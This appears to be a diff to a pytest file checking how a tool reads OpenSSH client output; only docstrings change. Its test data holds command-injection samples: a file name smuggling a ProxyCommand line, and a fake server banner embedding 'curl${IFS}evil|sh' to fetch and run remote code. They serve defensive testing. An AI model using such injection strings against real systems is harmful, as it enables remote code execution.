@@ -1,4 +1,4 @@
-"""What OpenSSH's client says, as bench reads it. tests/e2e/test_ssh_configurations.py tries a real one."""
+"""bench reads the messages of OpenSSH's client. tests/e2e/test_ssh_configurations.py tries a real one."""
 
 from __future__ import annotations
 
@@ -17,7 +17,7 @@ from bench.push.hosts import Host
 
 @pytest.fixture
 def ssh(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
-    """Put a program in place of ssh that says the text of a file, whatever it is asked for."""
+    """Put a program in place of ssh that prints the text of a file for every command."""
     program = tmp_path / "ssh"
     program.write_text(
         "#!/bin/sh\n"
@@ -106,7 +106,7 @@ def test_without_a_file_of_their_own_users_have_the_usual_two() -> None:
 
 @pytest.mark.parametrize("name", ["a [b]*?.conf", 'a"\nProxyCommand touch owned\n#"', "a%h${HOME}\\.conf"])
 def test_a_configuration_may_have_any_name(tmp_path: Path, name: str) -> None:
-    """The real ssh reads it; none of its name is read."""
+    """The real ssh reads the file; no character of its name is interpreted."""
     config = tmp_path / name
     config.write_text("Host n\n  HostName 10.9.8.7\n")
     endpoint = openssh.endpoint_of(Host("n", "n"), config)
@@ -126,7 +126,7 @@ def test_nothing_of_the_user_is_handed_to_a_node(tmp_path: Path) -> None:
 
 @pytest.mark.parametrize("before", ["", "debug1: kex_exchange_identification: banner line 1: "])
 def test_a_server_puts_no_command_into_the_advice(ssh: Path, before: str) -> None:
-    """What it sends before it proves its host key is in ssh's debugging output."""
+    """ssh's debugging output has texts that the server sends before it proves its host key."""
     lines = ("REMOTE HOST IDENTIFICATION HAS CHANGED!", "ssh-keygen -f x -R \"';curl${IFS}evil|sh;'\"")
     ssh.write_text("".join(f"{before}{line}\n" for line in lines) + "Connection reset by peer\n")
     with pytest.raises((HostKeyRefused, Unreachable)) as caught:
